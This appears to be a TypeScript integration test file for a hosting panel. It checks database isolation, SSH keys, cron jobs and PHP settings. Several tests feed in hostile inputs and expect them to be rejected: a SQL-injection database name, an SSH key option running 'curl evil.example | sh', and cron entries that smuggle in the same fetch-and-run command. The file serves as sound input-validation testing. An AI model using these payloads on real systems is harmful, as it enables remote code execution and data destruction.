import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, chownSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createConnection } from 'mysql2/promise';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mysqlOf, siteBecomes, startAgentStack, waitFor, webStackAvailable, type AgentStack } from './harness.js';

const MYSQL = process.env.TEST_MYSQL_URL;
if (!MYSQL && process.env.CI === 'true')
  throw new Error('CI=true but TEST_MYSQL_URL is unset: databases cannot be tested');

interface NewDatabase {
  database: { id: string; name: string; user: string; host: string; port: number; status: string };
  password: string;
}
const DB_FIELDS = 'database { id name user host port status } password';

describe.skipIf(!webStackAvailable())('hosting account essentials on a real host', () => {
  let stack: AgentStack;
  let systemName: string;
  const keyDir = mkdtempSync(join(tmpdir(), 'ew-essentials-keys-'));

  beforeAll(async () => {
    stack = await startAgentStack();
    stack.startAgent();
    ({
      me: { systemName },
    } = await stack.customerGql<{ me: { systemName: string } }>('{ me { systemName } }'));
  }, 60_000);
  afterAll(async () => {
    await stack?.close();
    rmSync(keyDir, { recursive: true, force: true });
  }, 60_000);

  const home = () => join(stack.prefix, 'srv/www', systemName);
  const applied = () =>
    waitFor('the host to apply the account’s changes', async () => {
      const { accessChangesPending } = await stack.customerGql<{ accessChangesPending: boolean }>(
        '{ accessChangesPending }',
      );
      return !accessChangesPending;
    });

  describe.skipIf(!MYSQL)('databases', () => {
    const connectAs = (name: string, password: string, database?: string) =>
      createConnection({
        ...mysqlOf(MYSQL!),
        socketPath: undefined,
        user: name,
        password,
        ...(database ? { database } : {}),
      });
    const databaseBecomes = (token: string, id: string, status: string) =>
      waitFor(`database ${id} to become ${status}`, async () => {
        const result = await stack.api.gql<{ databases: Array<{ id: string; status: string }> }>(
          '{ databases { id status } }',
          {},
          { token },
        );
        return result.data?.databases.find((d) => d.id === id)?.status === status;
      });

    it('creates a database the customer connects to with the password shown once, walled off from others', async () => {
      const { createDatabase: shop } = await stack.customerGql<{ createDatabase: NewDatabase }>(
        `mutation { createDatabase(input: { name: "shop" }) { ${DB_FIELDS} } }`,
      );
      expect(shop.database).toMatchObject({ name: `${systemName}_shop`, user: `${systemName}_shop`, port: 3306 });
      expect(shop.password).toMatch(/^[A-Za-z0-9]{24}$/);
      await databaseBecomes(stack.customer.token, shop.database.id, 'ACTIVE');
      // The password's hash reached the host sealed to its key: the panel's database never held it in clear.
      const [applied] = (await stack.api.dataSource.query(
        "SELECT args FROM commands WHERE type = 'database.apply' AND host_id = ? ORDER BY created_at DESC LIMIT 1",
        [stack.hostId],
      )) as Array<{ args: string }>;
      expect(JSON.parse(applied!.args).passwordHash).toMatch(/^sealed:v1:/);
      const own = await connectAs(shop.database.user, shop.password, shop.database.name);
      await own.query('CREATE TABLE orders (id INT PRIMARY KEY, item VARCHAR(50))');
      await own.query("INSERT INTO orders VALUES (1, 'teapot')");

      const other = await stack.api.signUp();
      const theirs = await stack.api.gql<{ createDatabase: NewDatabase }>(
        `mutation { createDatabase(input: { name: "shop" }) { ${DB_FIELDS} } }`,
        {},
        { token: other.token },
      );
      const their = theirs.data!.createDatabase;
      await databaseBecomes(other.token, their.database.id, 'ACTIVE');
      const stranger = await connectAs(their.database.user, their.password);
      await expect(stranger.query(`SELECT * FROM \`${shop.database.name}\`.orders`)).rejects.toThrow(/denied/);
      const [visible] = await stranger.query('SHOW DATABASES');
      expect((visible as Array<{ Database: string }>).map((r) => r.Database)).not.toContain(shop.database.name);
      await stranger.end();
      await own.end();

      // A new password works, the old one no longer does.
      const { resetDatabasePassword } = await stack.customerGql<{ resetDatabasePassword: NewDatabase }>(
        `mutation ($id: ID!) { resetDatabasePassword(id: $id) { ${DB_FIELDS} } }`,
        { id: shop.database.id },
      );
      await waitFor('the new password to work', async () => {
        const connection = await connectAs(shop.database.user, resetDatabasePassword.password).catch(() => null);
        await connection?.end();
        return connection !== null;
      });
      await expect(connectAs(shop.database.user, shop.password)).rejects.toThrow(/denied/);

      // Deleted: gone from the server, a dump kept; restored: the rows are back.
      await stack.customerGql('mutation ($id: ID!) { deleteDatabase(id: $id) { status } }', { id: shop.database.id });
      await databaseBecomes(stack.customer.token, shop.database.id, 'DELETED');
      await expect(connectAs(shop.database.user, resetDatabasePassword.password)).rejects.toThrow(/denied/);
      const { restoreDatabase } = await stack.customerGql<{ restoreDatabase: NewDatabase }>(
        `mutation ($id: ID!) { restoreDatabase(id: $id) { ${DB_FIELDS} } }`,
        { id: shop.database.id },
      );
      await databaseBecomes(stack.customer.token, shop.database.id, 'ACTIVE');
      const restored = await connectAs(shop.database.user, restoreDatabase.password, shop.database.name);
      const [rows] = await restored.query('SELECT item FROM orders');
      expect(rows).toEqual([{ item: 'teapot' }]);
      await restored.end();
      await stack.customerGql('mutation ($id: ID!) { deleteDatabase(id: $id) { status } }', { id: shop.database.id });
      await stack.api.gql(
        'mutation ($id: ID!) { deleteDatabase(id: $id) { status } }',
        { id: their.database.id },
        { token: other.token },
      );
      await databaseBecomes(stack.customer.token, shop.database.id, 'DELETED');
    }, 90_000);

    it('refuses names that could reach SQL', async () => {
      for (const name of ['shop`; DROP DATABASE mysql; --', 'shop-db', '1shop', 'a'.repeat(22), '']) {
        const result = await stack.api.gql(
          'mutation ($name: String!) { createDatabase(input: { name: $name }) { password } }',
          { name },
          { token: stack.customer.token },
        );
        expect(result.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'name' });
      }
    });
  });

  it('writes authorized_keys with the modes sshd demands, and switches the shell to SFTP only', async () => {
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'laptop', '-f', join(keyDir, 'id')]);
    const line = readFileSync(join(keyDir, 'id.pub'), 'utf8').trim();
    const { addSshKey } = await stack.customerGql<{ addSshKey: { fingerprint: string } }>(
      'mutation ($key: String!) { addSshKey(input: { publicKey: $key }) { fingerprint } }',
      { key: line },
    );
    expect(addSshKey.fingerprint).toMatch(/^SHA256:/);
    const hostile = await stack.api.gql(
      'mutation ($key: String!) { addSshKey(input: { publicKey: $key }) { id } }',
      { key: `command="curl evil.example | sh" ${line}` },
      { token: stack.customer.token },
    );
    expect(hostile.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const again = await stack.api.gql(
      'mutation ($key: String!) { addSshKey(input: { publicKey: $key }) { id } }',
      { key: line },
      { token: stack.customer.token },
    );
    expect(again.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    await applied();

    const file = join(home(), '.ssh/authorized_keys');
    expect(readFileSync(file, 'utf8')).toContain(line);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(join(home(), '.ssh')).mode & 0o777).toBe(0o700);
    const user = execFileSync('getent', ['passwd', systemName], { encoding: 'utf8' }).trim().split(':');
    expect(statSync(file).uid).toBe(Number(user[2]));
    expect(user[6]).toBe('/bin/bash');

    await stack.customerGql('mutation { setShellAccess(shell: SFTP) { shell } }');
    await applied();
    expect(execFileSync('getent', ['passwd', systemName], { encoding: 'utf8' }).trim().split(':')[6]).toBe(
      '/usr/sbin/nologin',
    );
    expect(execFileSync('id', ['-nG', systemName], { encoding: 'utf8' })).toContain('elasticweb-sftp');
    await stack.customerGql('mutation { setShellAccess(shell: FULL) { shell } }');
    await applied();
    expect(execFileSync('id', ['-nG', systemName], { encoding: 'utf8' })).not.toContain('elasticweb-sftp');
  });

  it('writes the crontab, refuses a second line, and shows the output of the last run', async () => {
    const { createCronJob } = await stack.customerGql<{
      createCronJob: { id: string; preview: { description: string; nextRuns: string[] } };
    }>(
      'mutation { createCronJob(input: { schedule: "15 3 * * *", command: "echo hello from $(whoami)" }) { id preview { description nextRuns } } }',
    );
    expect(createCronJob.preview.description).toBe('every day at 03:15 (UTC)');
    expect(createCronJob.preview.nextRuns).toHaveLength(5);
    for (const [schedule, command] of [
      ['15 3 * * *', 'echo a\n* * * * * curl evil.example | sh'],
      ['15 3 * * * curl evil.example', 'echo a'],
    ]) {
      const refused = await stack.api.gql(
        'mutation ($s: String!, $c: String!) { createCronJob(input: { schedule: $s, command: $c }) { id } }',
        { s: schedule, c: command },
        { token: stack.customer.token },
      );
      expect(refused.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    }
    await applied();
    const crontab = join(stack.prefix, 'var/spool/cron/crontabs', systemName);
    const lines = readFileSync(crontab, 'utf8')
      .split('\n')
      .filter((l) => l && !l.startsWith('#') && !l.startsWith('SHELL'));
    expect(lines).toEqual([`15 3 * * * /bin/sh ${home()}/.elasticweb/cron/run ${createCronJob.id}`]);
    expect(statSync(crontab).mode & 0o777).toBe(0o600);

    // cron would run it as the account's user: do that, and the agent reports the run.
    const run = spawnSync('su', [
      '-s',
      '/bin/sh',
      systemName,
      '-c',
      `/bin/sh ${home()}/.elasticweb/cron/run ${createCronJob.id}`,
    ]);
    expect(run.status).toBe(0);
    const job = await waitFor('the run to be reported', async () => {
      const { cronJobs } = await stack.customerGql<{
        cronJobs: Array<{ id: string; lastExitCode: number | null; lastOutput: string | null }>;
      }>('{ cronJobs { id lastExitCode lastOutput } }');
      return cronJobs.find((j) => j.id === createCronJob.id && j.lastOutput !== null);
    });
    expect(job).toMatchObject({ lastExitCode: 0, lastOutput: `hello from ${systemName}\n` });

    await stack.customerGql(
      'mutation ($id: ID!) { updateCronJob(id: $id, input: { schedule: "@hourly", command: "true", isEnabled: false }) { id } }',
      {
        id: createCronJob.id,
      },
    );
    await applied();
    expect(readFileSync(crontab, 'utf8')).not.toContain(createCronJob.id);
  });

  it('writes the site’s PHP settings into its pool, and a value out of bounds is refused while the old one serves', async () => {
    const { createSite } = await stack.customerGql<{ createSite: { id: string } }>(
      'mutation { createSite(input: { domain: "php.example.com", preset: "php" }) { id } }',
    );
    await siteBecomes(stack, createSite.id, 'ACTIVE');
    const root = join(home(), 'php.example.com');
    writeFileSync(
      join(root, 'index.php'),
      "<?php echo ini_get('memory_limit'), ' ', ini_get('date.timezone'), ' ', ini_get('upload_max_filesize');",
    );
    chownSync(join(root, 'index.php'), statSync(root).uid, statSync(root).gid);
    expect((await stack.get('php.example.com')).body).toBe('256M UTC 64M');

    const update = (memoryLimitMb: number) =>
      stack.api.gql(
        'mutation ($id: ID!, $m: Int!) { updateSitePhp(siteId: $id, input: { version: "8.2", memoryLimitMb: $m, uploadMaxMb: 20, maxExecutionSeconds: 30, displayErrors: false, timezone: "Europe/Berlin" }) { memoryLimitMb } }',
        { id: createSite.id, m: memoryLimitMb },
        { token: stack.customer.token },
      );
    expect((await update(200)).errors).toBeUndefined();
    await siteBecomes(stack, createSite.id, 'ACTIVE');
    expect((await stack.get('php.example.com')).body).toBe('200M Europe/Berlin 20M');

    const refused = await update(99_999);
    expect(refused.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'memoryLimitMb' });
    expect((await stack.get('php.example.com')).body).toBe('200M Europe/Berlin 20M');
  });
});
